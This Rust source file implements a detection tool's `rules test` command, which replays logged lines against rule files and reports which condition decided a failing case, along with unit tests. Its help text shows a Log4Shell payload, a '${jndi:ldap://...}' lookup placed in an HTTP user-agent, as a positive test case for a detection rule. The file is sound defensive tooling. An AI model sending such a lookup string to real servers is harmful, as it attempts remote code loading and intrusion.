//! `vertice rules test`: the cases beside rule files, played to a fresh engine.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use anyhow::{Context as _, Result};
use clap::Args;
use serde_json::{Value, json};
use vertice_engine::cases::{Case, Cases, Played};
use vertice_engine::{Content, ContentFile, Stamp};
use vertice_model::{Event, Position, RawEvent};
use vertice_sigma::RuleIndex;

use super::super::Failure;
use super::super::content::counted;
use super::super::detections::matched;
use super::super::output::{Format, Out, Tint};
use super::super::tree::Node;
use super::told::Told;
use super::{of_kind, rule_files, shown_path, with_mappings};
use crate::content;

#[derive(Args, Debug)]
#[command(after_help = "\
Examples:
  vertice rules test my-rules
  vertice rules test my-rules/web/log4shell.yml

The cases of my-rules/web/log4shell.yml are in my-rules/web/cases/log4shell.yml, in the sensor's own lines:

  positive:
    - story: a lookup in the name of the browser
      entity: 203.0.113.7            whom each detection is about
      detections: 1                  how many there must be; 1 unless given
      lines:
        - '203.0.113.7 - - [02/Mar/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"${jndi:ldap://x/a}\"'
  negative:
    - story: a browser of that name
      lines:
        - '203.0.113.7 - - [02/Mar/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"jndi/1.0\"'

Each story is played to a fresh engine with the rules of PATH; one that does not hold is shown with the condition
that decided. Needs no server.

Exit codes:
  0  every case holds                          3  there is no such file, no rule file, or no case at all
  1  a case does not hold                      6  a rule or a file of cases is refused
  2  the command line is wrong")]
pub struct Arguments {
    /// The rule files and directories whose cases are played; a directory is walked
    #[arg(required = true, value_name = "PATH")]
    paths: Vec<PathBuf>,
    /// A directory with mappings/ of your own, beside the built-in ones; may be given several times
    #[arg(long, value_name = "DIR")]
    content: Vec<PathBuf>,
}

/// What was played.
#[derive(Default)]
struct Tally {
    held: usize,
    failed: usize,
    without: Vec<String>,
    listed: Vec<Value>,
}

pub fn run(arguments: &Arguments, out: &mut Out) -> Result<()> {
    let files = rule_files(&arguments.paths)?;
    let mappings = of_kind(content::gather(&arguments.content, &[])?, "mappings").collect();
    let content = Arc::new(with_mappings(files.clone(), mappings)?);
    let mut tally = Tally::default();
    for file in &files {
        let path = PathBuf::from(shown_path(&file.path));
        match beside(&path)? {
            Some(cases) => {
                let read = Cases::read(&cases).map_err(|error| Failure::Content(error.to_string()))?;
                tally.file(&content, file, &cases.path, &read, out)?;
            }
            None => tally.without.push(path.display().to_string()),
        }
    }
    tally.end(out)
}

/// The cases beside a file.
pub fn beside(file: &Path) -> Result<Option<ContentFile>> {
    let Some(name) = file.file_name() else { return Ok(None) };
    let path = file.with_file_name("cases").join(name);
    if !path.is_file() {
        return Ok(None);
    }
    let text = std::fs::read_to_string(&path).with_context(|| format!("reading {}", path.display()))?;
    Ok(Some(ContentFile { path: path.display().to_string(), text }))
}

impl Tally {
    fn file(
        &mut self,
        content: &Arc<Content>,
        file: &ContentFile,
        path: &str,
        cases: &Cases,
        out: &mut Out,
    ) -> Result<()> {
        let set = content.rules.set();
        let rules: Vec<RuleIndex> = set.iter().filter(|(_, r)| r.path == file.path).map(|(index, _)| index).collect();
        let ids: BTreeSet<&str> = rules.iter().map(|index| set.rule(*index).key()).collect();
        for case in cases.iter() {
            let played = case.play(content);
            let reason = case.check(&played, &ids).err();
            let held = reason.is_none();
            *(if held { &mut self.held } else { &mut self.failed }) += 1;
            match (out.format, reason) {
                (Format::Table, None) => {}
                (Format::Table, Some(reason)) => failed(content, &rules, &ids, path, &case, &played, &reason, out)?,
                (Format::Json | Format::Ndjson, reason) => {
                    let line =
                        json!({"path": path, "line": case.line, "story": case.story, "holds": held, "reason": reason});
                    if out.format == Format::Ndjson { out.json(&line)? } else { self.listed.push(line) }
                }
            }
        }
        Ok(())
    }

    fn end(self, out: &mut Out) -> Result<()> {
        let cases = self.held + self.failed;
        match out.format {
            Format::Json => out.json_list(&self.listed)?,
            Format::Ndjson => {}
            Format::Table => {
                if let Some(first) = self.without.first() {
                    let more = self.without.len() - 1;
                    let more = if more == 0 { String::new() } else { format!(" and {more} more") };
                    out.parts(&[(Tint::Warn, "without cases: "), (Tint::None, &format!("{first}{more}"))])?;
                }
                out.line(&format!("cases: {} of {cases} hold.", self.held))?;
            }
        }
        match (cases, self.failed) {
            (0, _) => Err(Failure::NotFound(
                "there is no case; those of DIR/NAME.yml are looked for in DIR/cases/NAME.yml".to_owned(),
            )
            .into()),
            (_, 0) => Ok(()),
            (_, failed) => Err(Failure::Failed(format!("cases: {failed} of {cases} do not hold")).into()),
        }
    }
}

/// Shows a case that does not hold: what matched and should not have, or the line that came nearest and what it
/// lacked.
#[expect(clippy::too_many_arguments, reason = "all of it is shown")]
fn failed(
    content: &Arc<Content>,
    rules: &[RuleIndex],
    ids: &BTreeSet<&str>,
    path: &str,
    case: &Case<'_>,
    played: &Played,
    reason: &str,
    out: &mut Out,
) -> Result<()> {
    out.parts(&[
        (Tint::Bold, &format!("{path}:{}: ", case.line)),
        (Tint::Bad, "does not hold: "),
        (Tint::None, &format!("{}: {reason}", case.story)),
    ])?;
    let ours: Vec<_> = played.detections.iter().filter(|d| ids.contains(d.rule_id.as_str())).collect();
    if ours.len() > case.wanted.len() || case.wanted.is_empty() {
        for detection in ours {
            out.line(&format!("  line {}: {}", detection.position.0 - 1, detection.rule_title))?;
            let detection = serde_json::to_value(detection)?;
            super::super::records::items(&detection, "/matched").iter().try_for_each(|m| matched(m, "    ", out))?;
        }
        return Ok(());
    }
    let events = events(content, case);
    for index in rules.iter().filter(|index| !content.rules.set().rule(**index).is_correlation()) {
        let told = events.iter().map(|(number, event)| (*number, Told::of(content, *index, event)));
        // Of several that are as near the first: a person reads from the top.
        let Some((number, told)) = told.reduce(|a, b| if b.1.nearness() > a.1.nearness() { b } else { a }) else {
            continue;
        };
        let matching = events.iter().filter(|(_, event)| Told::of(content, *index, event).matches).count();
        let title = &content.rules.set().rule(*index).title;
        let mut node = Node::new(vec![
            (Tint::Bold, format!("{title}  ")),
            (Tint::Faint, format!("{matching} of {} match; line {number}:", counted(events.len(), "line"))),
        ]);
        node.extend(told.nodes());
        node.print(out)?;
    }
    Ok(())
}

/// The lines of a story as events, with their numbers.
fn events(content: &Content, case: &Case<'_>) -> Vec<(usize, Event)> {
    let stamp = Stamp { position: Position(1), now: case.now(content) };
    let read = |(i, line): (usize, &String)| {
        let raw = RawEvent { origin: Arc::from("story"), line: line.clone() };
        Some((i + 1, content.mappings.normalize(stamp, &raw).ok()?))
    };
    case.lines.iter().enumerate().filter_map(read).collect()
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use super::*;
    use crate::cli::output::tests::printed;

    const RULE: &str = "title: Root guessed\nid: 5e1f8a4e-6c1f-4a53-9a0c-0d4b9c7d1a11\n\
        logsource: {category: authentication}\n\
        detection: {failed: {event.action: failed_login, user.name: root}, condition: failed}\n";

    fn line(user: &str) -> String {
        format!("- 'Jan  2 03:04:05 web1 sshd[1]: Failed password for {user} from 203.0.113.9 port 1 ssh2'")
    }

    fn test(format: Format, cases: &str) -> (String, Option<Failure>) {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("cases")).unwrap();
        let write = |name: &str, text: &str| {
            std::fs::File::create(dir.path().join(name)).unwrap().write_all(text.as_bytes()).unwrap();
        };
        write("r.yml", RULE);
        if !cases.is_empty() {
            write("cases/r.yml", cases);
        }
        let arguments = Arguments { paths: vec![dir.path().to_owned()], content: Vec::new() };
        let mut failure = None;
        let text = printed(format, |out| {
            failure = run(&arguments, out).err().map(|e| e.downcast().unwrap());
            Ok(())
        });
        (text.replace(&format!("{}/", dir.path().display()), ""), failure)
    }

    #[test]
    fn cases_that_hold_are_counted() {
        let cases = format!(
            "positive:\n  - story: s\n    entity: 203.0.113.9\n    lines:\n      {}\nnegative:\n  - story: n\n    lines:\n      {}\n",
            line("root"),
            line("ana")
        );
        assert_eq!(test(Format::Table, &cases), ("cases: 2 of 2 hold.\n".to_owned(), None));
        let (text, _) = test(Format::Json, &cases);
        let list: Value = serde_json::from_str(&text).unwrap();
        assert_eq!((&list[0]["holds"], &list[1]["story"], &list[1]["line"]), (&json!(true), &json!("n"), &json!(7)));
    }

    #[test]
    fn a_case_that_does_not_hold_shows_which_condition_decided() {
        let cases = format!("positive:\n  - story: s\n    entity: 203.0.113.9\n    lines:\n      {}\n", line("ana"));
        let (text, failure) = test(Format::Table, &cases);
        let expected = "\
cases/r.yml:2: does not hold: s: one detection, about 203.0.113.9 is meant; there was no detection
Root guessed  0 of 1 line match; line 1:
├─ yes  log source: the rule is for authentication   the event is linux/sshd authentication, linux/auth authentication, linux/syslog authentication
└─ no   failed
   ├─ yes  event.action: failed_login   in: failed_login
   └─ no   user.name: root   the event has: ana
cases: 0 of 1 hold.
";
        assert_eq!(text, expected);
        assert_eq!(failure, Some(Failure::Failed("cases: 1 of 1 do not hold".to_owned())));
        let cases = format!("negative:\n  - story: n\n    lines:\n      {}\n", line("root"));
        let (text, _) = test(Format::Table, &cases);
        assert!(text.contains("  line 1: Root guessed\n    failed: event.action = failed_login"), "{text}");
    }

    #[test]
    fn what_has_no_cases_is_said() {
        let (text, failure) = test(Format::Table, "");
        assert_eq!(text, "without cases: r.yml\ncases: 0 of 0 hold.\n");
        assert!(matches!(failure, Some(Failure::NotFound(_))), "{failure:?}");
        let (_, failure) = test(Format::Table, "positive: [{story: s}]\n");
        let Some(Failure::Content(told)) = failure else { panic!("{failure:?}") };
        assert!(told.starts_with("cases/r.yml:1:") || told.contains("/cases/r.yml:1:"), "{told}");
    }
}
